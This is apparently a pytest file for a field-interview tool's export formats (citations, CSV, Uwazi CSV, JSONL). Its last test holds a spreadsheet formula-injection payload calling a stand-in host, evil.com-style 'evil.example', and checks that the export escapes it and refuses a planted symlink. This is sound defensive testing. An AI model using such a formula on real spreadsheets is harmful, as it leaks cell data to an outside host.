"""HQ's exports, as a spreadsheet, Uwazi and a report writer read them."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from fieldkit import kit as kitx
from fieldkit.core.canonical import canonical_json
from fieldkit.core.errors import FieldkitError
from fieldkit.core.record import validate
from fieldkit.hq.exports import ExportFormat, export, export_text
from fieldkit.vault import importing, records
from tests.builders import Network
from tests.helpers import REPO

GOLDEN = REPO / "tests" / "golden"


def merged(network: Network, fixture_rows: list[dict[str, object]]) -> None:
    kit = network.kits[0]
    importing.import_records(kit, list(enumerate(fixture_rows, start=1)))
    records.save(
        kit,
        validate(
            {
                "interview_date": "2020-02-18",
                "place": "Masanchi",
                "country": "KZ",
                "role": "elderly Dungan man",
                "language": "ru",
                "organisation": "ADC Memorial",
                "tags": ["arson", "police"],
                "consent": {"kind": "oral", "quote_anonymously": True},
                "quotes": [
                    {"text": 'Они пришли ночью.\n\nМы "спрятались", у соседей.', "tags": ["night"]},
                    "Second quote.",
                ],
                "status": "ready",
            }
        ),
    )
    network.send(kit)


def test_citations_print_every_fixture_quote_with_its_citation(
    network: Network, fixture_rows: list[dict[str, object]]
) -> None:
    merged(network, fixture_rows)
    text = export_text(network.hq, ExportFormat.CITATIONS)
    for row in fixture_rows:
        role = str(row["role"])
        month_day = {
            "2020-02-14": "February 14",
            "2020-02-15": "February 15",
            "2020-02-16": "February 16",
            "2020-02-17": "February 17",
        }
        cite = (
            f"({role[0].upper()}{role[1:]}. Interview with ADC Memorial, "
            f"{month_day[str(row['interview_date'])]}, 2020, {row['place']})"
        )
        russian = re.search("[а-яё]", str(row["quote"]), re.IGNORECASE)
        opening = "\u00ab" if russian else "\u201c"  # «…» around Russian, “…” English
        quote = "> " + opening + str(row["quote"]).split("\n\n")[0]
        assert quote in text
        assert text.index(cite, text.index(quote)) > text.index(quote)
    # A Russian quote is cited as a Russian report cites it (the month in the genitive); the
    # English quote of the same interview keeps its English citation.
    assert (
        '> «Они пришли ночью.\n>\n> Мы "спрятались", у соседей.»\n\n'
        "(Elderly Dungan man. Интервью с ADC Memorial, 18 февраля 2020 г., Masanchi)"
    ) in text
    assert (
        "> “Second quote.”\n\n"
        "(Elderly Dungan man. Interview with ADC Memorial, February 18, 2020, Masanchi)"
    ) in text


def test_csv_is_one_rfc4180_row_per_quote(
    network: Network, fixture_rows: list[dict[str, object]], tmp_path: Path
) -> None:
    merged(network, fixture_rows)
    target = tmp_path / "dataset.csv"
    assert export(network.hq, ExportFormat.CSV, target, bom=True) == 13
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw[3:].startswith((GOLDEN / "csv-header.csv").read_bytes())
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert len(rows) == 13
    masanchi = [r for r in rows if r["place"] == "Masanchi"]
    assert [r["quote_number"] for r in masanchi] == ["1", "2"]
    assert masanchi[0]["quote"] == 'Они пришли ночью.\n\nМы "спрятались", у соседей.'
    assert masanchi[0]["interview_tags"] == "arson|police"
    assert masanchi[0]["quote_tags"] == "night"
    assert masanchi[0]["consent"] == "oral" and masanchi[0]["may_quote_anonymously"] == "true"
    assert masanchi[0]["kit_fingerprint"] == kitx.kit_card(network.kits[0]).card.fingerprint
    assert b"\r\n" in raw and b'"\xd0\x9e' in raw  # CRLF rows; the multi-line field is quoted
    # Each row's citation is in its quote's language: Russian for the Russian quote, English
    # (unchanged) for the English one and for every fixture row.
    assert masanchi[0]["citation"] == (
        "Elderly Dungan man. Интервью с ADC Memorial, 18 февраля 2020 г., Masanchi"
    )
    assert masanchi[1]["citation"] == (
        "Elderly Dungan man. Interview with ADC Memorial, February 18, 2020, Masanchi"
    )
    assert all("Interview with ADC Memorial" in r["citation"] for r in rows if r not in masanchi)
    assert not list(tmp_path.glob(".*partial"))


def test_uwazi_csv_follows_its_import_conventions(
    network: Network, fixture_rows: list[dict[str, object]]
) -> None:
    merged(network, fixture_rows)
    text = export_text(network.hq, ExportFormat.UWAZI_CSV)
    assert text.startswith((GOLDEN / "uwazi-header.csv").read_bytes().decode("utf-8"))
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    masanchi = [r for r in rows if r["place"] == "Masanchi"]
    assert masanchi[0]["interview_date"] == "2020/02/18"
    assert masanchi[0]["tags"] == "arson|police|night"
    assert masanchi[0]["title"] == "elderly Dungan man, Masanchi, 2020/02/18 (1/2)"
    assert masanchi[0]["citation"].endswith("Интервью с ADC Memorial, 18 февраля 2020 г., Masanchi")
    assert masanchi[1]["citation"].endswith(
        "Interview with ADC Memorial, February 18, 2020, Masanchi"
    )
    assert all(r["title"] for r in rows)


def test_jsonl_is_canonical_with_provenance(
    network: Network, fixture_rows: list[dict[str, object]]
) -> None:
    merged(network, fixture_rows)
    lines = export_text(network.hq, ExportFormat.JSONL).splitlines()
    assert len(lines) == 12
    for line in lines:
        record = json.loads(line)
        assert canonical_json(record).decode("utf-8") == line
        assert "notes" not in record and len(record["provenance"]) == 1
    dates = [json.loads(line)["interview_date"] for line in lines]
    assert dates == sorted(dates)


def test_csv_cannot_smuggle_a_formula_and_files_are_private(
    network: Network, tmp_path: Path
) -> None:
    kit = network.kits[0]
    records.save(
        kit,
        validate(
            {
                "interview_date": "2020-02-18",
                "place": "@Masanchi",
                "role": "witness",
                "organisation": "ADC Memorial",
                "status": "ready",
                "quotes": [
                    '=HYPERLINK("http://evil.example/?"&A1,"click")',
                    "- They came at night.",
                ],
            }
        ),
    )
    network.send(kit)
    target = tmp_path / "dataset.csv"
    export(network.hq, ExportFormat.CSV, target)
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"), newline="")))
    assert [r["quote"] for r in rows] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        "'- They came at night.",
    ]
    assert rows[0]["place"] == "'@Masanchi"
    assert target.stat().st_mode & 0o777 == 0o600
    # A link planted under the temporary name is refused, not written through.
    victim = tmp_path / "victim.txt"
    victim.write_text("mine")
    (tmp_path / ".again.csv.partial").symlink_to(victim)
    with pytest.raises(FieldkitError):
        export(network.hq, ExportFormat.CSV, tmp_path / "again.csv")
    assert victim.read_text() == "mine" and not (tmp_path / "again.csv").exists()
